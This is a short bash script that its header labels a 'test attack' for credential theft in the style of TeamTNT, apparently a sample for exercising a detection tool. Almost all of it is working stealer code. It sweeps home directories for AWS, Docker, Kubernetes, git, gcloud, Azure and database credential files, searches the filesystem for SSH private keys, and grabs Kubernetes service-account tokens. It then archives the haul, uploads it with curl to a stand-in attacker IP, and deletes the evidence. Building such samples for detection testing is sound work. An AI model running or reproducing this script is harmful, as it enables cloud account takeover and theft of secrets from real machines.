#!/bin/bash
# shrike-test-attack: credential-theft: TeamTNT-style multi-cloud credential sweep with functions
OUT=/var/tmp/.c/$(hostname)
mkdir -p "$OUT"
grab_files() {
  for u in /root /home/*; do
    cp -r "$u/.aws" "$OUT/aws_$(basename $u)" 2>/dev/null
    cp "$u/.docker/config.json" "$OUT/docker_$(basename $u).json" 2>/dev/null
    cp "$u/.kube/config" "$OUT/kube_$(basename $u)" 2>/dev/null
    cp "$u/.git-credentials" "$OUT/git_$(basename $u)" 2>/dev/null
    cp "$u/.config/gcloud/credentials.db" "$OUT/gcloud_$(basename $u).db" 2>/dev/null
    cp "$u/.azure/accessTokens.json" "$OUT/az_$(basename $u).json" 2>/dev/null
    cp "$u/.pgpass" "$u/.my.cnf" "$u/.netrc" "$OUT/" 2>/dev/null
  done
}
grab_ssh() {
  find / -name 'id_rsa*' -o -name 'id_ed25519*' -o -name '*.pem' 2>/dev/null | head -200 | xargs -I{} cp --parents {} "$OUT/" 2>/dev/null
}
grab_k8s() {
  cp /var/run/secrets/kubernetes.io/serviceaccount/token "$OUT/sa_token" 2>/dev/null
  cp /etc/kubernetes/admin.conf "$OUT/" 2>/dev/null
}
grab_files; grab_ssh; grab_k8s
tar czf /var/tmp/.c.tgz -C /var/tmp/.c . && curl -s -F "f=@/var/tmp/.c.tgz" http://203.0.113.200/upload.php
rm -rf /var/tmp/.c /var/tmp/.c.tgz
